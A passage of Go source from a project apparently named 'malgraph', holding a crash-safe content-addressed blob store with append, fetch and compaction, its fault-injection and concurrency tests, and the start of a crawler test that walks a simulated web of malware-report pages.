	return hex.EncodeToString(sum[:])
}

// Blob pairs a content key with its bytes. Key must equal KeyOf(Data);
// Append rejects mismatches rather than store an unverifiable blob.
type Blob struct {
	Key  string          `json:"key"`
	Data json.RawMessage `json:"data"`
}

// segment file names are seg-%08d.json; temp files carry the tempPrefix
// and are garbage from an interrupted write, removed at Open.
const (
	segPattern = "seg-%08d.json"
	tempPrefix = ".castore-"
)

// segment is the on-disk JSON shape. Hashes is serialized first so Open
// can stop decoding after the index; Blobs carries the blob bodies in the
// same order.
type segment struct {
	Hashes []string `json:"hashes"`
	Blobs  []Blob   `json:"blobs"`
}

// Store is a content-addressed artifact store over one directory of
// immutable segment files. All exported methods are safe for concurrent
// use.
type Store struct {
	fs  wal.FS
	dir string

	mu sync.Mutex
	// known maps blob hash → segment id, guarded by mu.
	known map[string]int
	// segs lists live segment ids in ascending order, guarded by mu.
	segs []int
	// nextSeg is the id the next written segment takes, guarded by mu.
	// Strictly greater than every id ever used, including unlinked ones,
	// so a lingering pre-crash segment can never collide with a new write.
	nextSeg int
	// compacting serializes compaction runs, guarded by mu.
	compacting bool
}

// Open creates dir if needed, removes interrupted-write temp files, and
// indexes every segment by decoding only its hash-index prefix. A nil fs
// uses the real filesystem.
func Open(dir string, fs wal.FS) (*Store, error) {
	if fs == nil {
		fs = wal.OSFS()
	}
	if err := fs.MkdirAll(dir); err != nil {
		return nil, fmt.Errorf("castore: %w", err)
	}
	st := &Store{
		fs:      fs,
		dir:     dir,
		known:   make(map[string]int),
		nextSeg: 1,
	}
	names, err := os.ReadDir(dir)
	if err != nil {
		return nil, fmt.Errorf("castore: %w", err)
	}
	for _, de := range names {
		name := de.Name()
		if strings.HasPrefix(name, tempPrefix) {
			// Leftover from a write interrupted before rename — never
			// referenced, safe to drop.
			os.Remove(filepath.Join(dir, name))
			continue
		}
		var id int
		if n, err := fmt.Sscanf(name, segPattern, &id); n != 1 || err != nil {
			continue
		}
		hashes, err := st.readIndex(filepath.Join(dir, name))
		if err != nil {
			return nil, fmt.Errorf("castore: segment %s: %w", name, err)
		}
		st.segs = append(st.segs, id)
		for _, h := range hashes {
			// First mention wins: after an interrupted compaction the same
			// blob can appear in the merged segment and in an old one, and
			// either copy is byte-identical by construction.
			if _, ok := st.known[h]; !ok {
				st.known[h] = id
			}
		}
		if id >= st.nextSeg {
			st.nextSeg = id + 1
		}
	}
	sort.Ints(st.segs)
	return st, nil
}

// readIndex decodes just the "hashes" index prefix of a segment file.
func (st *Store) readIndex(path string) ([]string, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	dec := json.NewDecoder(f)
	// Walk: { "hashes" : [ ... ] — then stop without decoding blobs.
	if err := expectDelim(dec, '{'); err != nil {
		return nil, err
	}
	tok, err := dec.Token()
	if err != nil {
		return nil, err
	}
	if key, ok := tok.(string); !ok || key != "hashes" {
		return nil, fmt.Errorf("malformed segment: expected hashes index, got %v", tok)
	}
	var hashes []string
	if err := dec.Decode(&hashes); err != nil {
		return nil, err
	}
	return hashes, nil
}

func expectDelim(dec *json.Decoder, want json.Delim) error {
	tok, err := dec.Token()
	if err != nil {
		return err
	}
	if d, ok := tok.(json.Delim); !ok || d != want {
		return fmt.Errorf("malformed segment: expected %q, got %v", want, tok)
	}
	return nil
}

// Dir returns the store's directory.
func (st *Store) Dir() string { return st.dir }

// Len returns the number of distinct blobs indexed.
func (st *Store) Len() int {
	st.mu.Lock()
	defer st.mu.Unlock()
	return len(st.known)
}

// SegmentCount returns the number of live segment files.
func (st *Store) SegmentCount() int {
	st.mu.Lock()
	defer st.mu.Unlock()
	return len(st.segs)
}

// Has reports whether the blob with the given hash is stored.
func (st *Store) Has(hash string) bool {
	st.mu.Lock()
	defer st.mu.Unlock()
	_, ok := st.known[hash]
	return ok
}

// Missing returns, preserving order, the subset of hashes not yet stored.
func (st *Store) Missing(hashes []string) []string {
	st.mu.Lock()
	defer st.mu.Unlock()
	var out []string
	seen := make(map[string]bool, len(hashes))
	for _, h := range hashes {
		if seen[h] {
			continue
		}
		seen[h] = true
		if _, ok := st.known[h]; !ok {
			out = append(out, h)
		}
	}
	return out
}

// Append durably stores every blob not already present as one new
// segment, and returns the number of blobs written. Blobs whose key is
// already indexed are skipped (content-addressing makes the stored copy
// equivalent). An all-duplicates or empty batch writes nothing. The
// segment is crash-safe: temp → write → fsync → rename → directory fsync,
// so after Append returns the blobs survive power loss, and a crash
// before the rename leaves no trace beyond a temp file Open removes.
func (st *Store) Append(blobs []Blob) (int, error) {
	for _, b := range blobs {
		if got := KeyOf(b.Data); got != b.Key {
			return 0, fmt.Errorf("castore: blob key %s does not match content key %s", b.Key, got)
		}
	}
	st.mu.Lock()
	seg := segment{}
	inSeg := make(map[string]bool, len(blobs))
	for _, b := range blobs {
		h := b.Key
		if _, ok := st.known[h]; ok {
			continue
		}
		if inSeg[h] {
			continue
		}
		inSeg[h] = true
		seg.Hashes = append(seg.Hashes, h)
		seg.Blobs = append(seg.Blobs, b)
	}
	if len(seg.Hashes) == 0 {
		st.mu.Unlock()
		return 0, nil
	}
	id := st.nextSeg
	st.nextSeg++
	st.mu.Unlock()

	if err := st.writeSegment(id, &seg); err != nil {
		return 0, err
	}

	st.mu.Lock()
	st.segs = append(st.segs, id)
	sort.Ints(st.segs)
	for _, h := range seg.Hashes {
		if _, ok := st.known[h]; !ok {
			st.known[h] = id
		}
	}
	st.mu.Unlock()
	return len(seg.Hashes), nil
}

// writeSegment writes one segment file with full crash discipline.
func (st *Store) writeSegment(id int, seg *segment) (err error) {
	name := fmt.Sprintf(segPattern, id)
	tmp := filepath.Join(st.dir, tempPrefix+name)
	final := filepath.Join(st.dir, name)
	f, err := st.fs.OpenFile(tmp)
	if err != nil {
		return fmt.Errorf("castore: %w", err)
	}
	defer func() {
		if err != nil {
			f.Close()
			os.Remove(tmp)
		}
	}()
	enc := json.NewEncoder(f)
	if err = enc.Encode(seg); err != nil {
		return fmt.Errorf("castore: encode segment: %w", err)
	}
	if err = f.Sync(); err != nil {
		return fmt.Errorf("castore: sync segment: %w", err)
	}
	if err = f.Close(); err != nil {
		return fmt.Errorf("castore: close segment: %w", err)
	}
	if err = os.Rename(tmp, final); err != nil {
		return fmt.Errorf("castore: publish segment: %w", err)
	}
	if err = st.fs.SyncDir(st.dir); err != nil {
		return fmt.Errorf("castore: sync dir: %w", err)
	}
	return nil
}

// Fetch resolves content keys to blob bytes, decoding only the segments
// that contain at least one requested blob. Every returned blob is
// re-verified against its key. Unknown keys are an error.
func (st *Store) Fetch(hashes []string) (map[string]json.RawMessage, error) {
	out := make(map[string]json.RawMessage, len(hashes))
	// A concurrent compaction can unlink a segment between the index
	// lookup and the file open; the blobs then live in the merged segment
	// the updated index points at, so re-resolve and retry. Two rounds
	// always suffice — only one compaction runs at a time, and the merged
	// segment is published before the old ones are unlinked.
	for attempt := 0; ; attempt++ {
		st.mu.Lock()
		want := make(map[string]bool, len(hashes))
		segsNeeded := make(map[int]bool)
		for _, h := range hashes {
			if want[h] || out[h] != nil {
				continue
			}
			id, ok := st.known[h]
			if !ok {
				st.mu.Unlock()
				return nil, fmt.Errorf("castore: unknown blob %s", h)
			}
			want[h] = true
			segsNeeded[id] = true
		}
		st.mu.Unlock()
		if len(want) == 0 {
			return out, nil
		}

		ids := make([]int, 0, len(segsNeeded))
		for id := range segsNeeded {
			ids = append(ids, id)
		}
		sort.Ints(ids)
		retry := false
		for _, id := range ids {
			err := st.fetchFromSegment(id, want, out)
			if errors.Is(err, os.ErrNotExist) {
				retry = true
				continue
			}
			if err != nil {
				return nil, err
			}
		}
		missing := false
		for h := range want {
			if _, ok := out[h]; !ok {
				missing = true
			}
		}
		if !missing {
			return out, nil
		}
		if !retry || attempt >= 3 {
			return nil, fmt.Errorf("castore: indexed blob missing from its segment")
		}
	}
}

func (st *Store) fetchFromSegment(id int, want map[string]bool, out map[string]json.RawMessage) error {
	path := filepath.Join(st.dir, fmt.Sprintf(segPattern, id))
	f, err := os.Open(path)
	if err != nil {
		if errors.Is(err, os.ErrNotExist) {
			return err
		}
		return fmt.Errorf("castore: %w", err)
	}
	defer f.Close()
	var seg segment
	if err := json.NewDecoder(f).Decode(&seg); err != nil {
		return fmt.Errorf("castore: segment %d: %w", id, err)
	}
	for _, b := range seg.Blobs {
		if len(b.Data) == 0 || !want[b.Key] {
			continue
		}
		if _, ok := out[b.Key]; ok {
			continue
		}
		if got := KeyOf(b.Data); got != b.Key {
			return fmt.Errorf("castore: segment %d: blob %s content hashes to %s", id, b.Key, got)
		}
		out[b.Key] = b.Data
	}
	return nil
}

// SegmentFile names one live segment for streaming: its file name (within
// the store directory) and the blob hashes it carries.
type SegmentFile struct {
	Name   string
	Hashes []string
}

// OpenSegments opens every live segment for reading and returns the open
// files alongside the set of hashes they cover. The files stay readable
// even if a concurrent compaction unlinks them (POSIX semantics), so a
// streaming reader gets a consistent snapshot of the store without
// blocking writers. The caller closes the files.
func (st *Store) OpenSegments() ([]*os.File, []SegmentFile, error) {
	st.mu.Lock()
	ids := append([]int(nil), st.segs...)
	st.mu.Unlock()

	var files []*os.File
	var metas []SegmentFile
	for _, id := range ids {
		name := fmt.Sprintf(segPattern, id)
		f, err := os.Open(filepath.Join(st.dir, name))
		if err != nil {
			if errors.Is(err, os.ErrNotExist) {
				// Compacted away between snapshot of ids and open; its blobs
				// live on in the merged segment, which a fresh OpenSegments
				// would return. Callers treat covered-hash sets as advisory.
				continue
			}
			closeAll(files)
			return nil, nil, fmt.Errorf("castore: %w", err)
		}
		hashes, err := st.readIndex(filepath.Join(st.dir, name))
		if err != nil {
			f.Close()
			closeAll(files)
			return nil, nil, fmt.Errorf("castore: segment %s: %w", name, err)
		}
		files = append(files, f)
		metas = append(metas, SegmentFile{Name: name, Hashes: hashes})
	}
	return files, metas, nil
}

func closeAll(files []*os.File) {
	for _, f := range files {
		f.Close()
	}
}

// Compact merges every live segment into one new segment carrying only
// the blobs in live, then unlinks the old segments. At most one
// compaction runs at a time; a concurrent call returns immediately with
// compacted=false. Appends may proceed concurrently — the merged segment
// covers exactly the segments captured at entry, and segments appended
// later are untouched.
//
// Crash safety: the merged segment is published atomically before any old
// segment is unlinked, so every crash point leaves all live blobs
// reachable — the worst case is duplicate copies of a blob across the
// merged and not-yet-unlinked old segments, which Open dedupes by hash.
func (st *Store) Compact(live map[string]bool) (compacted bool, err error) {
	st.mu.Lock()
	if st.compacting {
		st.mu.Unlock()
		return false, nil
	}
	st.compacting = true
	oldIDs := append([]int(nil), st.segs...)
	id := st.nextSeg
	st.nextSeg++
	st.mu.Unlock()
	defer func() {
		st.mu.Lock()
		st.compacting = false
		st.mu.Unlock()
	}()

	if len(oldIDs) == 0 {
		return false, nil
	}

	// Gather the retained blobs from the old segments, first mention wins.
	merged := segment{}
	kept := make(map[string]bool)
	for _, oid := range oldIDs {
		path := filepath.Join(st.dir, fmt.Sprintf(segPattern, oid))
		f, err := os.Open(path)
		if err != nil {
			return false, fmt.Errorf("castore: %w", err)
		}
		var seg segment
		err = json.NewDecoder(f).Decode(&seg)
		f.Close()
		if err != nil {
			return false, fmt.Errorf("castore: segment %d: %w", oid, err)
		}
		for _, b := range seg.Blobs {
			if len(b.Data) == 0 || kept[b.Key] {
				continue
			}
			if live != nil && !live[b.Key] {
				continue
			}
			kept[b.Key] = true
			merged.Hashes = append(merged.Hashes, b.Key)
			merged.Blobs = append(merged.Blobs, b)
		}
	}

	replace := func(newSegs []int) {
		st.mu.Lock()
		// Keep segments appended while we compacted; drop the merged-away
		// ids and re-point every kept hash at the merged segment. Hashes
		// dropped as dead are deleted unless a concurrent append re-added
		// them into a newer segment.
		retain := newSegs
		for _, sid := range st.segs {
			if !containsInt(oldIDs, sid) {
				retain = append(retain, sid)
			}
		}
		sort.Ints(retain)
		st.segs = retain
		for h, sid := range st.known {
			if !containsInt(oldIDs, sid) {
				continue
			}
			if kept[h] && len(newSegs) > 0 {
				st.known[h] = newSegs[0]
			} else {
				delete(st.known, h)
			}
		}
		st.mu.Unlock()
	}

	if len(merged.Hashes) == 0 {
		// Nothing retained: just drop the old segments.
		replace(nil)
	} else {
		if err := st.writeSegment(id, &merged); err != nil {
			return false, err
		}
		replace([]int{id})
	}

	// Unlink the merged-away segments only after the merged segment is
	// durable and the in-memory index no longer references them.
	for _, oid := range oldIDs {
		if err := os.Remove(filepath.Join(st.dir, fmt.Sprintf(segPattern, oid))); err != nil && !errors.Is(err, os.ErrNotExist) {
			return false, fmt.Errorf("castore: %w", err)
		}
	}
	if err := st.fs.SyncDir(st.dir); err != nil {
		return false, fmt.Errorf("castore: sync dir: %w", err)
	}
	return true, nil
}

func containsInt(xs []int, x int) bool {
	for _, v := range xs {
		if v == x {
			return true
		}
	}
	return false
}
