package castore

// Crash-safety contract under test: Append is all-or-nothing (a failed or
// torn segment write leaves the store — on disk and in memory — exactly as
// before), Compact never makes a live blob unreachable at any crash point,
// and Open recovers the exact blob set from whatever mix of temp files and
// duplicate segments a crash left behind.

import (
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"malgraph/internal/faultinject"
)

// blobOf builds a valid Blob from a short string (stored as a JSON string).
func blobOf(s string) Blob {
	data, _ := json.Marshal(s)
	return Blob{Key: KeyOf(data), Data: data}
}

// fetchAll fails the test unless every blob round-trips byte-identically.
func fetchAll(t *testing.T, st *Store, blobs []Blob) {
	t.Helper()
	keys := make([]string, len(blobs))
	for i, b := range blobs {
		keys[i] = b.Key
	}
	got, err := st.Fetch(keys)
	if err != nil {
		t.Fatalf("Fetch: %v", err)
	}
	for _, b := range blobs {
		if string(got[b.Key]) != string(b.Data) {
			t.Fatalf("blob %s: got %s, want %s", b.Key, got[b.Key], b.Data)
		}
	}
}

func TestAppendFetchRoundTrip(t *testing.T) {
	st, err := Open(t.TempDir(), nil)
	if err != nil {
		t.Fatal(err)
	}
	batch := []Blob{blobOf("alpha"), blobOf("beta"), blobOf("gamma")}
	n, err := st.Append(batch)
	if err != nil {
		t.Fatal(err)
	}
	if n != 3 {
		t.Fatalf("Append wrote %d blobs, want 3", n)
	}
	if st.Len() != 3 || st.SegmentCount() != 1 {
		t.Fatalf("Len=%d SegmentCount=%d, want 3 and 1", st.Len(), st.SegmentCount())
	}
	fetchAll(t, st, batch)

	// Duplicate and intra-batch-duplicate appends write nothing new.
	n, err = st.Append([]Blob{batch[0], batch[0], batch[2]})
	if err != nil {
		t.Fatal(err)
	}
	if n != 0 {
		t.Fatalf("duplicate Append wrote %d blobs, want 0", n)
	}
	if st.SegmentCount() != 1 {
		t.Fatalf("duplicate Append grew SegmentCount to %d", st.SegmentCount())
	}

	// Missing preserves order and dedupes; Has agrees.
	other := blobOf("delta")
	miss := st.Missing([]string{other.Key, batch[1].Key, other.Key})
	if len(miss) != 1 || miss[0] != other.Key {
		t.Fatalf("Missing = %v, want [%s]", miss, other.Key)
	}
	if !st.Has(batch[0].Key) || st.Has(other.Key) {
		t.Fatal("Has disagrees with stored contents")
	}

	// A second distinct batch lands in its own segment and both stay readable
	// after reopening from disk alone.
	if _, err := st.Append([]Blob{other}); err != nil {
		t.Fatal(err)
	}
	re, err := Open(st.Dir(), nil)
	if err != nil {
		t.Fatal(err)
	}
	if re.Len() != 4 || re.SegmentCount() != 2 {
		t.Fatalf("reopen: Len=%d SegmentCount=%d, want 4 and 2", re.Len(), re.SegmentCount())
	}
	fetchAll(t, re, append(batch, other))
}

func TestAppendRejectsKeyMismatch(t *testing.T) {
	st, err := Open(t.TempDir(), nil)
	if err != nil {
		t.Fatal(err)
	}
	bad := blobOf("honest")
	bad.Key = KeyOf([]byte(`"forged"`))
	if _, err := st.Append([]Blob{blobOf("fine"), bad}); err == nil {
		t.Fatal("Append accepted a blob whose key does not match its content")
	}
	if st.Len() != 0 || st.SegmentCount() != 0 {
		t.Fatalf("rejected batch left state behind: Len=%d SegmentCount=%d", st.Len(), st.SegmentCount())
	}
}

func TestFetchUnknownKeyErrors(t *testing.T) {
	st, err := Open(t.TempDir(), nil)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := st.Fetch([]string{KeyOf([]byte(`"ghost"`))}); err == nil {
		t.Fatal("Fetch of an unknown key succeeded")
	}
}

// TestOpenRemovesInterruptedWriteTemp covers the crash-mid-segment-write
// recovery path: a kill between OpenFile and rename leaves a .castore-*
// temp file that was never referenced; Open must delete it and index only
// the published segments.
func TestOpenRemovesInterruptedWriteTemp(t *testing.T) {
	dir := t.TempDir()
	st, err := Open(dir, nil)
	if err != nil {
		t.Fatal(err)
	}
	batch := []Blob{blobOf("kept")}
	if _, err := st.Append(batch); err != nil {
		t.Fatal(err)
	}
	// Simulate the torn leftover: half a segment under the temp prefix.
	tmp := filepath.Join(dir, tempPrefix+"seg-00000002.json")
	if err := os.WriteFile(tmp, []byte(`{"hashes":["deadbeef"`), 0o644); err != nil {
		t.Fatal(err)
	}
	re, err := Open(dir, nil)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(tmp); !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("temp file survived Open: stat err = %v", err)
	}
	if re.Len() != 1 || re.SegmentCount() != 1 {
		t.Fatalf("reopen after torn temp: Len=%d SegmentCount=%d, want 1 and 1", re.Len(), re.SegmentCount())
	}
	fetchAll(t, re, batch)
}

// TestAppendCrashMidWriteIsAtomic injects write and sync failures into the
// segment write and checks Append is all-or-nothing: the error surfaces,
// earlier blobs stay readable, the new blobs are not indexed, and a reopen
// from disk sees no trace of the failed segment.
func TestAppendCrashMidWriteIsAtomic(t *testing.T) {
	for _, mode := range []string{"write-torn", "sync"} {
		t.Run(mode, func(t *testing.T) {
			fi := faultinject.NewFS(nil)
			dir := t.TempDir()
			st, err := Open(dir, fi)
			if err != nil {
				t.Fatal(err)
			}
			first := []Blob{blobOf("durable")}
			if _, err := st.Append(first); err != nil {
				t.Fatal(err)
			}
			switch mode {
			case "write-torn":
				fi.FailWrite(1, 7) // tear the next segment write mid-record
			case "sync":
				fi.FailSync(1) // segment bytes written but never durable
			}
			if _, err := st.Append([]Blob{blobOf("lost")}); err == nil {
				t.Fatal("Append succeeded despite injected failure")
			}
			if st.Len() != 1 || st.SegmentCount() != 1 {
				t.Fatalf("failed Append mutated state: Len=%d SegmentCount=%d", st.Len(), st.SegmentCount())
			}
			fetchAll(t, st, first)
			// The same store keeps working after the fault clears.
			second := []Blob{blobOf("after-fault")}
			if _, err := st.Append(second); err != nil {
				t.Fatal(err)
			}
			re, err := Open(dir, nil)
			if err != nil {
				t.Fatal(err)
			}
			if re.Len() != 2 {
				t.Fatalf("reopen Len=%d, want 2", re.Len())
			}
			fetchAll(t, re, append(first, second...))
		})
	}
}

func TestCompactMergesAndDropsDeadBlobs(t *testing.T) {
	dir := t.TempDir()
	st, err := Open(dir, nil)
	if err != nil {
		t.Fatal(err)
	}
	live := []Blob{blobOf("live-1"), blobOf("live-2"), blobOf("live-3")}
	dead := []Blob{blobOf("dead-1"), blobOf("dead-2")}
	for _, b := range append(append([]Blob(nil), live...), dead...) {
		if _, err := st.Append([]Blob{b}); err != nil { // one segment per blob
			t.Fatal(err)
		}
	}
	keep := make(map[string]bool)
	for _, b := range live {
		keep[b.Key] = true
	}
	compacted, err := st.Compact(keep)
	if err != nil {
		t.Fatal(err)
	}
	if !compacted {
		t.Fatal("Compact reported nothing to do")
	}
	if st.SegmentCount() != 1 || st.Len() != len(live) {
		t.Fatalf("after compact: SegmentCount=%d Len=%d, want 1 and %d", st.SegmentCount(), st.Len(), len(live))
	}
	fetchAll(t, st, live)
	for _, b := range dead {
		if st.Has(b.Key) {
			t.Fatalf("dead blob %s survived compaction", b.Key)
		}
	}
	re, err := Open(dir, nil)
	if err != nil {
		t.Fatal(err)
	}
	if re.Len() != len(live) || re.SegmentCount() != 1 {
		t.Fatalf("reopen after compact: Len=%d SegmentCount=%d", re.Len(), re.SegmentCount())
	}
	fetchAll(t, re, live)
}

// TestCompactCrashPointsKeepLiveBlobsReachable walks the two observable
// crash states of a compaction — merged segment published with the old
// segments not yet unlinked, and merge failed before publish — and checks
// Open recovers every live blob from either (first mention wins on the
// duplicates).
func TestCompactCrashPointsKeepLiveBlobsReachable(t *testing.T) {
	t.Run("published-before-unlink", func(t *testing.T) {
		dir := t.TempDir()
		st, err := Open(dir, nil)
		if err != nil {
			t.Fatal(err)
		}
		blobs := []Blob{blobOf("x"), blobOf("y")}
		for _, b := range blobs {
			if _, err := st.Append([]Blob{b}); err != nil {
				t.Fatal(err)
			}
		}
		// Write the merged segment by hand, as if the compaction crashed
		// after publishing it but before unlinking seg 1 and 2.
		merged := segment{}
		for _, b := range blobs {
			merged.Hashes = append(merged.Hashes, b.Key)
			merged.Blobs = append(merged.Blobs, b)
		}
		enc, err := json.Marshal(&merged)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, fmt.Sprintf(segPattern, 3)), enc, 0o644); err != nil {
			t.Fatal(err)
		}
		re, err := Open(dir, nil)
		if err != nil {
			t.Fatal(err)
		}
		if re.Len() != 2 || re.SegmentCount() != 3 {
			t.Fatalf("duplicated store: Len=%d SegmentCount=%d, want 2 and 3", re.Len(), re.SegmentCount())
		}
		fetchAll(t, re, blobs)
		// A finished compaction on the recovered store settles the layout:
		// one segment, nothing lost, and new ids never collide with seg 3.
		keep := map[string]bool{blobs[0].Key: true, blobs[1].Key: true}
		if _, err := re.Compact(keep); err != nil {
			t.Fatal(err)
		}
		if re.SegmentCount() != 1 {
			t.Fatalf("re-compacted SegmentCount=%d, want 1", re.SegmentCount())
		}
		fetchAll(t, re, blobs)
	})

	t.Run("merge-write-fails", func(t *testing.T) {
		fi := faultinject.NewFS(nil)
		dir := t.TempDir()
		st, err := Open(dir, fi)
		if err != nil {
			t.Fatal(err)
		}
		blobs := []Blob{blobOf("p"), blobOf("q")}
		for _, b := range blobs {
			if _, err := st.Append([]Blob{b}); err != nil {
				t.Fatal(err)
			}
		}
		keep := map[string]bool{blobs[0].Key: true, blobs[1].Key: true}
		fi.FailSync(1) // merged segment never becomes durable
		if _, err := st.Compact(keep); err == nil {
			t.Fatal("Compact succeeded despite injected sync failure")
		}
		// Old segments are untouched; everything still reachable, both live
		// and after a fresh Open, and a retried compaction succeeds.
		fetchAll(t, st, blobs)
		re, err := Open(dir, nil)
		if err != nil {
			t.Fatal(err)
		}
		if re.Len() != 2 || re.SegmentCount() != 2 {
			t.Fatalf("after failed compact: Len=%d SegmentCount=%d, want 2 and 2", re.Len(), re.SegmentCount())
		}
		fetchAll(t, re, blobs)
		compacted, err := st.Compact(keep)
		if err != nil || !compacted {
			t.Fatalf("retried Compact = %v, %v", compacted, err)
		}
		if st.SegmentCount() != 1 {
			t.Fatalf("retried compact SegmentCount=%d, want 1", st.SegmentCount())
		}
		fetchAll(t, st, blobs)
	})
}

// TestConcurrentAppendFetchCompact hammers the three public mutations from
// concurrent goroutines; run under -race this checks the locking story, and
// the final sweep checks no committed blob was lost to a compaction race.
func TestConcurrentAppendFetchCompact(t *testing.T) {
	st, err := Open(t.TempDir(), nil)
	if err != nil {
		t.Fatal(err)
	}
	const writers, perWriter = 4, 16
	var mu sync.Mutex
	committed := make(map[string]string) // key → data, guarded by mu
	liveSet := func() map[string]bool {
		mu.Lock()
		defer mu.Unlock()
		live := make(map[string]bool, len(committed))
		for k := range committed {
			live[k] = true
		}
		return live
	}
	var wg sync.WaitGroup
	for w := 0; w < writers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < perWriter; i++ {
				b := blobOf(fmt.Sprintf("writer-%d-blob-%d", w, i))
				if _, err := st.Append([]Blob{b}); err != nil {
					t.Errorf("Append: %v", err)
					return
				}
				mu.Lock()
				committed[b.Key] = string(b.Data)
				keys := make([]string, 0, len(committed))
				for k := range committed {
					keys = append(keys, k)
				}
				mu.Unlock()
				if got, err := st.Fetch(keys); err != nil {
					t.Errorf("Fetch: %v", err)
					return
				} else if len(got) != len(keys) {
					t.Errorf("Fetch returned %d blobs, want %d", len(got), len(keys))
					return
				}
			}
		}(w)
	}
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; i < 8; i++ {
			if _, err := st.Compact(liveSet()); err != nil {
				t.Errorf("Compact: %v", err)
				return
			}
		}
	}()
	wg.Wait()
	if t.Failed() {
		return
	}
	mu.Lock()
	defer mu.Unlock()
	keys := make([]string, 0, len(committed))
	for k := range committed {
		keys = append(keys, k)
	}
	got, err := st.Fetch(keys)
	if err != nil {
		t.Fatalf("final Fetch: %v", err)
	}
	for k, want := range committed {
		if string(got[k]) != want {
			t.Fatalf("blob %s: got %s, want %s", k, got[k], want)
		}
	}
	re, err := Open(st.Dir(), nil)
	if err != nil {
		t.Fatal(err)
	}
	if re.Len() < len(committed) {
		t.Fatalf("reopen indexed %d blobs, committed %d", re.Len(), len(committed))
	}
}

// TestSegmentIDsNeverReused checks nextSeg stays strictly monotonic across
// compactions within a process: ids of unlinked segments must not come back,
// or a crash-surviving old file could alias a new segment's contents.
func TestSegmentIDsNeverReused(t *testing.T) {
	st, err := Open(t.TempDir(), nil)
	if err != nil {
		t.Fatal(err)
	}
	a := blobOf("gen-1")
	if _, err := st.Append([]Blob{a}); err != nil {
		t.Fatal(err)
	}
	if _, err := st.Compact(map[string]bool{a.Key: true}); err != nil {
		t.Fatal(err)
	}
	b := blobOf("gen-2")
	if _, err := st.Append([]Blob{b}); err != nil {
		t.Fatal(err)
	}
	names, err := os.ReadDir(st.Dir())
	if err != nil {
		t.Fatal(err)
	}
	maxID := 0
	for _, de := range names {
		var id int
		if n, _ := fmt.Sscanf(de.Name(), segPattern, &id); n == 1 && id > maxID {
			maxID = id
		}
	}
	// seg 1 appended, compacted into seg 2, seg 3 appended after.
	if maxID != 3 {
		t.Fatalf("max segment id = %d, want 3 (monotonic ids)", maxID)
	}
	if strings.HasPrefix(names[0].Name(), tempPrefix) {
		t.Fatalf("temp file left behind: %s", names[0].Name())
	}
}
