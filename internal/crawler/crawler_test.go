package crawler

import (
	"context"
	"fmt"
	"testing"
	"time"

	"malgraph/internal/webworld"
	"malgraph/internal/xrand"
)

const reportBody = "We found a malicious package in the PyPI registry delivering a payload with indicators of compromise."

func buildWeb(t *testing.T) *webworld.Web {
	t.Helper()
	w := webworld.New()
	add := func(p *webworld.Page) {
		t.Helper()
		if err := w.AddPage(p); err != nil {
			t.Fatal(err)
		}
	}
	// Seed site with a chain of reports.
	add(&webworld.Page{
		URL: "https://vendor.example/reports/1", Site: "vendor.example",
		Title: "Malicious PyPI package steals keys", Body: reportBody, IsReport: true,
		Links: []string{"https://vendor.example/reports/2", "https://vendor.example/blog/fluff"},
	})
	add(&webworld.Page{
		URL: "https://vendor.example/reports/2", Site: "vendor.example",
		Title: "Another malicious npm package campaign", Body: reportBody, IsReport: true,
		Links: []string{"https://blogger.example/post/1"},
	})
	add(&webworld.Page{
		URL: "https://vendor.example/blog/fluff", Site: "vendor.example",
		Title: "Our holiday party", Body: "We had cake.",
	})
	// A third-party report only reachable via search.
	add(&webworld.Page{
		URL: "https://other.example/analysis/99", Site: "other.example",
		Title: "Malicious PyPI package steals tokens analysis", Body: reportBody, IsReport: true,
	})
	// Linked blogger post, relevant.
	add(&webworld.Page{
		URL: "https://blogger.example/post/1", Site: "blogger.example",
		Title: "Hunting malicious packages", Body: reportBody, IsReport: true,
	})
	// Unreachable noise.
	rng := xrand.New(3)
	for i := 0; i < 5; i++ {
		add(webworld.NoisePage(rng, "noise.example", i))
	}
	return w
}

func TestCrawlFindsLinkedAndSearchedReports(t *testing.T) {
	w := buildWeb(t)
	c := New(w, w, Config{})
	res := c.Crawl(context.Background(), []string{"https://vendor.example/reports/1"})

	got := map[string]bool{}
	for _, p := range res.Relevant {
		got[p.URL] = true
	}
	for _, want := range []string{
		"https://vendor.example/reports/1",
		"https://vendor.example/reports/2",
		"https://blogger.example/post/1",
		"https://other.example/analysis/99", // via search expansion
	} {
		if !got[want] {
			t.Fatalf("missing %s in %v", want, got)
		}
	}
	if got["https://vendor.example/blog/fluff"] {
		t.Fatal("irrelevant page not filtered")
	}
	if res.Skipped == 0 {
		t.Fatal("expected skipped pages")
	}
}

func TestCrawlDeduplicates(t *testing.T) {
	w := webworld.New()
	// Two pages linking to each other must not loop.
	if err := w.AddPage(&webworld.Page{
		URL: "a", Site: "s", Title: "malicious package report", Body: reportBody,
		IsReport: true, Links: []string{"b", "a"},
	}); err != nil {
		t.Fatal(err)
	}
	if err := w.AddPage(&webworld.Page{
		URL: "b", Site: "s", Title: "malicious package report two", Body: reportBody,
		IsReport: true, Links: []string{"a", "b"},
	}); err != nil {
		t.Fatal(err)
	}
	c := New(w, w, Config{})
	res := c.Crawl(context.Background(), []string{"a"})
	if res.Fetched > 2+20 { // pages + bounded search expansion
		t.Fatalf("fetched %d, dedup broken", res.Fetched)
	}
	if len(res.Relevant) != 2 {
		t.Fatalf("relevant = %d", len(res.Relevant))
	}
}

func TestCrawlRespectsMaxPages(t *testing.T) {
	w := webworld.New()
	for i := 0; i < 50; i++ {
		links := []string{fmt.Sprintf("p%d", i+1)}
		if err := w.AddPage(&webworld.Page{
			URL: fmt.Sprintf("p%d", i), Site: "s",
			Title: "malicious package chain", Body: reportBody, IsReport: true, Links: links,
		}); err != nil {
			t.Fatal(err)
		}
	}
	c := New(w, w, Config{MaxPages: 10, SearchDepth: 1, SearchLimit: 1})
	res := c.Crawl(context.Background(), []string{"p0"})
	if res.Fetched > 10 {
		t.Fatalf("budget exceeded: %d", res.Fetched)
	}
}

func TestCrawlHandlesFetchErrors(t *testing.T) {
	w := webworld.New()
	if err := w.AddPage(&webworld.Page{
